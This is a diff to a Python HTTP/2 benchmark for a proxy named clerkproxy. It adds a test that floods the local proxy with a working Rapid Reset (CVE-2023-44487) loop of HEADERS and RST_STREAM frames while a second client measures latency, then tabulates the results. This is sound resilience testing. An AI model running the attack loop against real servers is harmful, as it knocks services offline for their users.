@@ -11,10 +11,14 @@ one (from tls_rows, same run) and over nginx's HTTP/2 figure.
 
 from __future__ import annotations
 
+import multiprocessing
 import re
 import shutil
+import socket
+import ssl
 import statistics
 import subprocess
+import time
 from collections.abc import Callable
 from dataclasses import asdict, dataclass, field
 from typing import Any
@@ -35,13 +39,27 @@ class H2Sample:
 
 
 @dataclass
+class RapidResetSample:
+    """An ordinary client's requests while another loops Rapid Reset."""
+
+    p50_ms: float
+    p99_ms: float
+    requests: int
+    errors: int
+    attack_streams: int
+    attack_connections: int
+
+
+@dataclass
 class H2Results:
     samples: dict[str, list[H2Sample]] = field(default_factory=dict)
     skipped: str | None = None
+    rapid_reset: RapidResetSample | None = None
 
     def as_json(self) -> dict[str, Any]:
         return {
             "skipped": self.skipped,
+            "rapid_reset": asdict(self.rapid_reset) if self.rapid_reset else None,
             "contenders": {
                 k: {"samples": [asdict(x) for x in v], "median": _median(v)}
                 for k, v in self.samples.items()
@@ -184,7 +202,124 @@ def run_rounds(
         for key in CONTENDERS:
             if key in keys:
                 one_round(s, key, seconds, warmup, connections, results)
+    if "clerkproxy" in keys:
+        results.rapid_reset = rapid_reset(s, max(4 * seconds, 4.0))
     return results
+
+
+def _attacker(
+    port: int, seconds: float, cafile: str, out: Any
+) -> None:  # pragma: no cover - runs in a child process
+    """Loop HEADERS + RST_STREAM pairs; reconnect whenever refused."""
+    import h2.config
+    import h2.connection
+
+    context = ssl.create_default_context(cafile=cafile)
+    context.set_alpn_protocols(["h2"])
+    headers = [
+        (":method", "GET"),
+        (":scheme", "https"),
+        (":authority", "localhost"),
+        (":path", harness.TARGET),
+    ]
+    streams = connections = 0
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        connections += 1
+        try:
+            raw = socket.create_connection(("127.0.0.1", port), timeout=5)
+            with context.wrap_socket(raw, server_hostname="localhost") as sock:
+                conn = h2.connection.H2Connection(
+                    h2.config.H2Configuration(client_side=True)
+                )
+                conn.initiate_connection()
+                sock.sendall(conn.data_to_send())
+                sock.settimeout(0.0)
+                streamID = 1
+                while time.monotonic() < deadline:
+                    for _ in range(50):
+                        conn.send_headers(streamID, headers, end_stream=True)
+                        conn.reset_stream(streamID)
+                        streamID += 2
+                        streams += 1
+                    sock.sendall(conn.data_to_send())
+                    try:
+                        data = sock.recv(65536)
+                    except (ssl.SSLWantReadError, BlockingIOError):
+                        continue
+                    if not data:
+                        break
+                    conn.receive_data(data)
+        except Exception:
+            pass
+    out.put((streams, connections))
+
+
+def _probe(port: int, seconds: float, cafile: str) -> tuple[list[float], int]:
+    """Ordinary HTTP/1.1 keep-alive requests over TLS, one at a time."""
+    import http.client
+
+    context = ssl.create_default_context(cafile=cafile)
+    latencies: list[float] = []
+    errors = 0
+    conn: Any = None
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        started = time.monotonic()
+        try:
+            if conn is None:
+                conn = http.client.HTTPSConnection(
+                    "localhost", port, context=context, timeout=10
+                )
+            conn.request("GET", harness.TARGET)
+            response = conn.getresponse()
+            response.read()
+            if response.status != 200:
+                errors += 1
+            latencies.append((time.monotonic() - started) * 1000)
+        except (OSError, http.client.HTTPException):
+            errors += 1
+            conn = None
+        time.sleep(0.01)
+    return latencies, errors
+
+
+def rapid_reset(s: harness.Setup, seconds: float) -> RapidResetSample:
+    """One client loops Rapid Reset at clerkproxy while another is served."""
+    port = H2_PORT
+    harness.wait_port_free(port)
+    process = clerkproxy_h2(s, port)
+    try:
+        harness.wait_port(port)
+        fork = multiprocessing.get_context("fork")
+        queue: Any = fork.Queue()
+        attacker = fork.Process(
+            target=_attacker, args=(port, seconds, str(s.ca), queue)
+        )
+        attacker.start()
+        time.sleep(min(1.0, seconds / 4))
+        latencies, errors = _probe(port, seconds * 0.7, str(s.ca))
+        streams, connections = queue.get(timeout=seconds + 60)
+        attacker.join()
+    finally:
+        harness.stop(process)
+    latencies.sort()
+
+    def pct(q: float) -> float:
+        if not latencies:
+            return float("nan")
+        return latencies[min(len(latencies) - 1, int(q * len(latencies)))]
+
+    sample = RapidResetSample(
+        pct(0.5), pct(0.99), len(latencies), errors, streams, connections
+    )
+    print(
+        f"h2 rapid reset: ordinary client p50 {sample.p50_ms:.1f} ms, "
+        f"p99 {sample.p99_ms:.1f} ms, {errors} errors; attacker sent "
+        f"{streams:,} reset streams over {connections:,} connections",
+        flush=True,
+    )
+    return sample
 
 
 def report(results: H2Results, tls: Any = None) -> list[str]:
@@ -220,4 +355,17 @@ def report(results: H2Results, tls: Any = None) -> list[str]:
                 lines.append(
                     f"clerkproxy HTTP/2 / clerkproxy HTTP/1.1 over TLS = {ours['rps'] / http11:.2f} (req/s)"
                 )
+    rr = results.rapid_reset
+    if rr is not None:
+        lines += [
+            "",
+            "Rapid Reset (CVE-2023-44487): one client loops HEADERS + RST_STREAM "
+            "over HTTP/2 (reconnecting after each GOAWAY) while another makes "
+            "ordinary HTTP/1.1 requests over TLS, one at a time.",
+            "",
+            "| ordinary p50 ms | p99 ms | requests | errors | reset streams sent | attack connections |",
+            "|---:|---:|---:|---:|---:|---:|",
+            f"| {rr.p50_ms:.1f} | {rr.p99_ms:.1f} | {rr.requests} | {rr.errors} "
+            f"| {rr.attack_streams:,} | {rr.attack_connections:,} |",
+        ]
     return lines
